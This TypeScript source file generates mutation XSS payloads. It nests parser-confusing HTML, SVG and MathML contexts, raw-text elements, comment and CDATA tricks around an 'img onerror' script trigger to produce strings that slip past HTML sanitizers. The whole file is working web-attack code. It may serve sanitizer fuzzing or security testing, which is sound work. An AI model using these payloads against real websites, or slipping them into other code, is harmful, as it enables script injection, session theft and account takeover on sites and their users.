import { pairs, words, type Writer } from "./vector.ts";

/** Elements in which a parser follows other rules. `@` stands for the content. */
const surroundings = [
  "@",
  "<svg>@</svg>",
  "<math>@</math>",
  "<svg><foreignObject>@</foreignObject></svg>",
  "<svg><desc>@</desc></svg>",
  "<svg><title>@</title></svg>",
  "<math><mtext>@</mtext></math>",
  "<math><mi>@</mi></math>",
  "<math><annotation-xml encoding=text/html>@</annotation-xml></math>",
  "<math><mtext><table><mglyph>@",
  "<form><math><mtext></form><form><mglyph>@",
  "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext>@",
  "<svg></p>@",
  "<svg><p>@",
  "<table>@</table>",
  "<table><tr>@</tr></table>",
  "<select>@</select>",
  "<select><option>@</option></select>",
  "<template>@</template>",
  "<ruby><rtc>@",
  "<a><p><a>@",
  "<p><table><p>@",
];

/** Elements that contain text in HTML and markup in SVG or MathML, or the other way around. */
const holders = words(`
  style script xmp noscript textarea title iframe noembed noframes plaintext listing template select option comment
  math svg desc
`);

/** Constructs that end earlier or later than they seem to. */
const enclosures: readonly ((name: string, inside: string) => string)[] = [
  (name, inside) => `<${name}><p title="</${name}>${inside}">`,
  (name, inside) => `<${name}><!--</${name}>${inside}-->`,
  (name, inside) => `<${name}><![CDATA[</${name}>${inside}]]>`,
  (name, inside) => `<${name}><a title='${inside.replaceAll("<", "&lt;")}'>`,
  (name, inside) => `<${name}/>${inside}`,
  (name, inside) => `<${name}>&lt;/${name}&gt;${inside}`,
];

const comments: readonly ((inside: string) => string)[] = [
  (inside) => `<!-->${inside}-->`,
  (inside) => `<!--->${inside}-->`,
  (inside) => `<!-- --!>${inside}-->`,
  (inside) => `<!-- <!-- -->${inside}-->`,
  (inside) => `<!- ${inside}->`,
  (inside) => `<![CDATA[${inside}]]>`,
  (inside) => `<![CDATA[>${inside}]]>`,
  (inside) => `<?php ${inside}?>`,
  (inside) => `<!DOCTYPE x[<!ENTITY y "${inside}">]>`,
  (inside) => `<!x ${inside}>`,
  (inside) => `</ ${inside}>`,
  (inside) => `<%${inside}%>`,
  (inside) => `<!--[if IE]>${inside}<![endif]-->`,
];

/** Texts that are parsed differently after they were printed (mutation XSS). */
export const writeMutations: Writer = (next) => {
  const run = () => `<img src=x: onerror=${next()}>`;
  const nested = pairs(surroundings, holders).flatMap(([around, name], place) =>
    enclosures
      .filter((_, step) => (place + step) % 2 === 0)
      .map((enclose) => around.replace("@", enclose(name, run()))),
  );
  const odd = pairs(surroundings, comments).map(([around, comment]) =>
    around.replace("@", comment(run())),
  );
  return [...nested, ...odd].map((text) => ({ kind: "mutation", text }));
};
